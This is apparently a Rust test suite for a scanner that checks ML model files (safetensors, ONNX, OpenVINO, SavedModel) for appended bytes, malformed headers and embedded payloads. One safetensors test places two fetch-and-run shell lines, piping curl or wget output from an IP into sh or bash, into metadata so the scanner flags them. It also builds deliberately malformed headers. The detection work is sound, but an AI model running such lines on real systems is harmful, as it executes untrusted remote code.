//! The formats beside pickles: what their own writers make is clean to the last byte, and stays found out when
//! bent. `fixtures/formats/make_*.py` made the files.

#![expect(clippy::unwrap_used, reason = "the helpers of these tests fail the test by panicking")]

use std::fs;
use std::path::{Path, PathBuf};

use proofhouse_core::Verdict;
use proofhouse_scan::{FileReport, Limits, Outcome, ScanReport, scan_bytes, scan_tree};
use proptest::prelude::*;

fn folder() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/formats")
}

struct Row {
    file: String,
    outcome: String,
    /// A rule that has to be among the findings; empty where there must be none that matters.
    rule: String,
}

fn manifest() -> Vec<Row> {
    let text = fs::read_to_string(folder().join("MANIFEST.csv")).unwrap();
    let row = |line: &str| {
        let mut cells = line.split(',').map(str::to_owned);
        Some(Row { file: cells.next()?, outcome: cells.next()?, rule: cells.next()? })
    };
    text.lines().skip(1).filter_map(row).collect()
}

fn scan(name: &str, bytes: &[u8]) -> FileReport {
    scan_bytes(&name.parse().unwrap(), bytes, &Limits::default())
}

#[test]
fn every_file_has_the_outcome_and_the_rule_of_the_manifest() {
    let mut wrong = Vec::new();
    for row in manifest() {
        let bytes = fs::read(folder().join(&row.file)).unwrap();
        let report = scan(&row.file, &bytes);
        let covered = report.covered_bytes == report.size || row.outcome != "clean";
        let found = row.rule.is_empty() || report.findings.iter().any(|f| f.rule == row.rule);
        if report.outcome.to_string() != row.outcome || !covered || !found {
            let found: Vec<_> =
                report.findings.iter().map(|f| format!("{} {}: {}", f.rule, f.place, f.message)).collect();
            let (size, covered) = (report.size, report.covered_bytes);
            wrong.push(format!(
                "{} ({}): {} {covered}/{size} {found:#?}",
                row.file, report.format, report.outcome
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn nothing_appended_or_cut_off_stays_clean() {
    for row in manifest().iter().filter(|r| r.outcome == "clean") {
        let bytes = fs::read(folder().join(&row.file)).unwrap();
        // A text may go on, and a stump of one is a text; bytes that are no text are none.
        let longer = [&bytes[..], b"\x00\xffhidden\x01"].concat();
        let report = scan(&row.file, &longer);
        assert!(report.outcome.to_string() != "clean", "{} with a tail", row.file);
    }
}

#[test]
fn a_saved_model_vouches_for_its_variables() {
    let copy = |change: &dyn Fn(&mut Vec<u8>)| {
        let to = tempfile::tempdir().unwrap();
        fs::create_dir(to.path().join("variables")).unwrap();
        for name in ["saved_model.pb", "fingerprint.pb", "variables/variables.index"] {
            fs::copy(folder().join("exported").join(name), to.path().join(name)).unwrap();
        }
        let data = "variables/variables.data-00000-of-00001";
        let mut bytes = fs::read(folder().join("exported").join(data)).unwrap();
        change(&mut bytes);
        fs::write(to.path().join(data), bytes).unwrap();
        scan_tree(to.path(), &Limits::default(), &|_| {}).unwrap()
    };
    let report = copy(&|_| {});
    assert_eq!((report.verdict(), report.findings), (Verdict::Pass, vec![]));
    let longer = copy(&|bytes| bytes.extend(b"hidden"));
    assert_eq!(longer.findings[0].rule, "tree/unlisted-bytes");
    let shorter = copy(&|bytes| bytes.truncate(400));
    assert!(shorter.findings.iter().all(|f| f.rule == "tree/unlisted-bytes") && !shorter.findings.is_empty());
}

fn tree(files: &[(&str, &[u8])]) -> ScanReport {
    let to = tempfile::tempdir().unwrap();
    for (name, bytes) in files {
        fs::write(to.path().join(name), bytes).unwrap();
    }
    scan_tree(to.path(), &Limits::default(), &|_| {}).unwrap()
}

#[test]
fn an_onnx_model_vouches_for_its_weights() {
    let model = fs::read(folder().join("outside/model.onnx")).unwrap();
    let weights = fs::read(folder().join("outside/model.onnx.data")).unwrap();
    assert_eq!(tree(&[("model.onnx", &model), ("model.onnx.data", &weights)]).verdict(), Verdict::Pass);
    assert_eq!(tree(&[("model.onnx", &model), ("other.data", &weights)]).verdict(), Verdict::Unknown);
    let longer = [&weights[..], b"\x00\xffhidden\x01"].concat();
    let report = tree(&[("model.onnx", &model), ("model.onnx.data", &longer)]);
    assert_eq!(report.findings.last().unwrap().rule, "tree/unlisted-bytes");
}

#[test]
fn an_openvino_model_vouches_for_its_weights() {
    let layer = |range: &str| {
        let data = format!(r#"<data element_type="f32" shape="2" {range}/>"#);
        format!(
            r#"<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="c" type="Const" version="opset1">{data}</layer></layers></net>"#
        )
    };
    let weights = [0u8, 1, 2, 255, 4, 5, 6, 7];
    let fits = layer(r#"offset="0" size="8""#);
    assert_eq!(tree(&[("m.xml", fits.as_bytes()), ("m.bin", &weights)]).verdict(), Verdict::Pass);
    let short = layer(r#"offset="0" size="4""#);
    assert_eq!(tree(&[("m.xml", short.as_bytes()), ("m.bin", &weights)]).verdict(), Verdict::Fail);
}

/// What may not stand in a safetensors header; each would make readers differ, or read beyond the file.
#[test]
fn a_safetensors_header_bent_to_mislead_readers_is_found() {
    let tensor = r#""dtype":"F32","shape":[1],"data_offsets":[0,4]"#;
    let headers = [
        format!(r#"{{"a":{{{tensor}}},"a":{{{tensor}}}}}"#),
        format!(r#"{{"a":{{{tensor}}},"b":{{{tensor}}}}}"#),
        r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}"#.to_owned(),
        r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[4,0]}}"#.to_owned(),
        r#"{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,4]}}"#.to_owned(),
        r#"{"a":{"dtype":"F32","shape":[-1],"data_offsets":[0,4]}}"#.to_owned(),
        r#"{"a":{"dtype":"F32","shape":[4294967296,4294967296],"data_offsets":[0,4]}}"#.to_owned(),
        r#"{"a":{"dtype":"OBJECT","shape":[1],"data_offsets":[0,4]}}"#.to_owned(),
        r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,18446744073709551615]}}"#.to_owned(),
        r#"{"a":{"dtype":"F32","shape":[1.0],"data_offsets":[0,4]}}"#.to_owned(),
        format!(r#"{{"__metadata__":{{"format":{{"nested":1}}}},"a":{{{tensor}}}}}"#),
        format!(r#"{{"__metadata__":{{"a":"1","a":"2"}},"a":{{{tensor}}}}}"#),
        format!(r#"{{"a":{{{tensor},"dtype":"I32"}}}}"#),
        format!(r#"{{"a":{{{tensor}}}}} trailing"#),
        r#"{"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]}}"#.to_owned(),
        format!(r#"{{"a":{{{tensor}}},"deep":{}{}}}"#, "[".repeat(200), "]".repeat(200)),
    ];
    let file = |header: &str| {
        [&(header.len() as u64).to_le_bytes()[..], header.as_bytes(), &[0, 0, 128, 63]].concat()
    };
    for header in &headers {
        let report = scan("model.safetensors", &file(header));
        assert!(report.outcome > Outcome::Clean, "{header}: {}", report.format);
    }
    let says = |text: &str| format!(r#"{{"__metadata__":{{"note":"{text}"}},"a":{{{tensor}}}}}"#);
    for text in ["pt", "trained with: pip install peft && python train.py --lr 1e-4", "see curl.se"] {
        assert_eq!(scan("model.safetensors", &file(&says(text))).outcome, Outcome::Clean, "{text}");
    }
    for text in ["curl -s http://198.51.100.7/x | sh", "$(wget -qO- http://198.51.100.7/x | bash)"] {
        assert_eq!(scan("model.safetensors", &file(&says(text))).outcome, Outcome::Suspicious, "{text}");
    }
}

/// Files that are known and not read are never clean, and say what they are.
#[test]
fn what_is_known_and_not_read_says_so() {
    let files: [(&[u8], &str); 5] = [
        (b"Rar!\x1a\x07\x01\0....", "rar"),
        (b"ptrt\0\0\0\0\x01", "tensorrt"),
        (b"tjgg\x03\0\0\0\x01", "ggml"),
        (b"binf\0\0\0\x3f\x01", "xgboost-binary"),
        (b"RKNN\0\0\0\0\x01", "rknn"),
    ];
    for (bytes, name) in files {
        let report = scan("model.bin", bytes);
        assert_eq!((report.outcome, report.format.name()), (Outcome::Unscannable, name));
    }
    let mut engine = b"ptrt\0\0\0\0".to_vec();
    let mut library = vec![0u8; 64];
    library[..7].copy_from_slice(b"\x7fELF\x02\x01\x01");
    library[52] = 64;
    engine.extend(library);
    assert!(scan("model.plan", &engine).findings.iter().any(|f| f.rule == "format/embedded-payload"));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn bent_files_never_panic_and_always_say_the_same(
        pick in any::<prop::sample::Index>(),
        edits in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..6),
        cut in prop::option::of(any::<prop::sample::Index>()),
    ) {
        let manifest = manifest();
        let row = pick.get(&manifest);
        let mut bytes = fs::read(folder().join(&row.file)).unwrap();
        for (at, to) in edits {
            let at = at.index(bytes.len());
            bytes[at] = to;
        }
        if let Some(cut) = cut {
            bytes.truncate(cut.index(bytes.len()));
        }
        let first = scan(&row.file, &bytes);
        prop_assert!(first.covered_bytes <= first.size);
        prop_assert_eq!(first, scan(&row.file, &bytes));
    }
}
